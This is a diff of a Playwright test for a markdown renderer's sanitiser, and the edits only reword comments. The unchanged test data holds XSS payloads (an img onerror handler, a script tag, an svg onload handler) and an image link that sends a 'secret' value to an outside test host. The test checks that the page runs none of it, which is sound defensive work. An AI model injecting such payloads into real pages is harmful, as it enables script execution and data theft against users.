@@ -1,4 +1,4 @@
-"""Hostile text in a reply: the page shows it, and it does nothing."""
+"""The page shows hostile text in a reply, and the text does nothing."""
 
 from playwright.sync_api import Page
 
@@ -25,7 +25,7 @@ HOSTILE = """<img src=x onerror="pwned=1"> <script>pwned=2</script> <svg onload=
 [r]: http://elsewhere.test/c.png?d=secret
 """
 
-# Renders the text as it grows, into the page, and tells every element and attribute that came of it.
+# Renders the growing text into the page, and returns every element and attribute of the result.
 RENDER = """async (text) => {
     const { render } = await import("/client/views/markdown.js");
     const seen = new Set();
@@ -60,7 +60,7 @@ def test_hostile_text_is_inert_however_far_it_has_come(page: Page) -> None:
     assert {url for url in requests if not url.startswith(ORIGIN)} == set()
 
 
-# As if the sanitiser had a hole.
+# Acts as if the sanitiser had a hole.
 BREAK_OUT = """async () => {
     const image = new Image();
     const loaded = new Promise((resolve) => (image.onload = image.onerror = ({ type }) => resolve(type)));
